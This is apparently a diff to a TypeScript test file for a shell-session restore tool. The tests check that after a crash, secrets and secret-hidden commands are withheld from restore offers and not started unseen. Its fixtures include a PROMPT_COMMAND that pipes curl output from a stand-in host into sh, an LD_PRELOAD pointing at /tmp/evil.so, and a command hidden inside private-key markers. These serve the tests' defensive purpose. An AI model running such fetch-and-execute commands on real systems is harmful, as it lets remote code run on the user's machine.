@@ -84,22 +84,41 @@ test("an offer shows the values of its variables, as far as they fit, and no sec
     LD_PRELOAD: "/tmp/evil.so\u202e",
     NODE_OPTIONS: `--require ${"x".repeat(300)}`,
     DATABASE_URL: "postgres://me:hunter22@db.example.org/a",
+    PROMPT_COMMAND: 'pwd="$(curl -s https://e.example/x1 | sh)"',
     GITHUB_TOKEN: "s3cr3t",
     EMPTY: "",
   };
   await client.execute("createShell", { env });
   lab.crash();
   const [offer] = await restore(lab);
-  expect(offer?.env).toEqual(["LD_PRELOAD", "NODE_OPTIONS", "DATABASE_URL", "EMPTY"]);
+  expect(offer?.env).toEqual(["LD_PRELOAD", "NODE_OPTIONS", "EMPTY"]);
+  expect(offer?.withheld).toEqual(["DATABASE_URL", "PROMPT_COMMAND", "GITHUB_TOKEN"]);
   expect(offer?.values).toEqual({
     LD_PRELOAD: "/tmp/evil.so",
     NODE_OPTIONS: `--require ${"x".repeat(189)}…`,
-    DATABASE_URL: "postgres://me:••••••••@db.example.org/a",
     EMPTY: "",
   });
+  // One that was kept before, by an earlier relay.
+  const [stored] = lab.store.shells.listStored(lab.session.id);
+  if (stored?.start === undefined) throw new Error("the start is not stored");
+  lab.store.shells.put(lab.session.id, stored.shell, { start: { ...stored.start, env } });
+  const why = expect.stringContaining("hidden as a secret");
+  expect(await restore(lab, { all: true })).toMatchObject([{ state: "skipped", why }]);
+  expect(lab.session.state.now.shells.some(({ running }) => running)).toBe(false);
 });
 
-test("an offer shows the line that resumes an agent without the secrets in it, which it is started with", async () => {
+test("a program whose arguments are hidden as a secret is not started unseen", async () => {
+  await using lab = smallSession();
+  const client = await lab.join();
+  const [begin, end] = ["-----BEGIN RSA PRIVATE KEY-----", "-----END RSA PRIVATE KEY-----"];
+  await client.execute("createShell", { exec: ["sh", "-c", `: '${begin}'; make bad; : '${end}'`] });
+  lab.crash();
+  const why = expect.stringContaining("hidden as a secret");
+  expect(await restore(lab)).toMatchObject([{ state: "offered", why, program: expect.not.stringContaining("bad") }]);
+  expect(await restore(lab, { all: true })).toMatchObject([{ state: "skipped", why }]);
+});
+
+test("an offer shows the line that resumes an agent without the secrets in it, and does not enter what it does not show", async () => {
   const token = "ghp_abcdefghijklmnopqrstuvwxyz0123456789";
   const command = `TOKEN=${token} claude --resume a-1`;
   const resumes = { ...noAgents.resumes, list: async () => [{ ...ready, command }] };
@@ -109,7 +128,9 @@ test("an offer shows the line that resumes an agent without the secrets in it, w
   lab.crash();
   const shown = `TOKEN=ghp_${"•".repeat(36)} claude --resume a-1`;
   expect(await restore(lab)).toMatchObject([{ agents: [{ command: shown }] }]);
-  expect(await restore(lab, { all: true, dryRun: true })).toMatchObject([{ command: shown }]);
+  const [restored] = await restore(lab, { all: true });
+  expect(restored).toMatchObject({ state: "started", why: expect.stringContaining("hidden as a secret") });
+  expect(restored?.conversation).toBeUndefined();
 });
 
 test("a folder that the owner has decided for starts by itself, others do not, until that is taken back", async () => {
